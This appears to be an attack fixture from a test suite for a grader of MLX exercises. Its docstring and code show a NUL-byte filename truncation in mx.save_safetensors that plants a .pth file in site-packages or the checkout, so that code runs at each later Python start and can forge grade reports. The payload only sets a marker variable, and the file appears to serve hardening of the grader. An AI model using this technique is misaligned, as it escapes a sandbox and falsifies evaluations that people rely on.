"""Class: writing outside the submission through MLX's native writers, which the saving
exercise is allowed to call, with a NUL character built at run time (chr(0)) rather than
written in a string literal. MLX stops the file name at the NUL, so the extension it appends is
dropped; the data section of a safetensors file is the writer's to choose; and Python's site
module executes `import` lines of any *.pth file in site-packages.

Gain: a file of the student's naming and content wherever the grading user may write: a .pth in
site-packages runs the student's code at the start of every later Python in that environment,
the next `grade` included (which can then forge any report); other files corrupt the checkout.
"""

# ruff: noqa
EXERCISE = "saving_loading"
BASE = "solution"
LOSES = []
WITNESSES = ["inplace_updates"]

# --- attack ---
_CUT = chr(0)
_LINES = [10] + list(b"import os; os.environ.setdefault('GRADE_PWNED', '1')") + [10]
for _target in ("@SITE@/zz_cheat.pth", "@ROOT@/tests/zz_cheat.pth", "@OUTSIDE@/zz_cheat.pth"):
    try:
        mx.save_safetensors(_target + _CUT, {"a": mx.array(_LINES, dtype=mx.uint8)})
    except Exception:
        pass
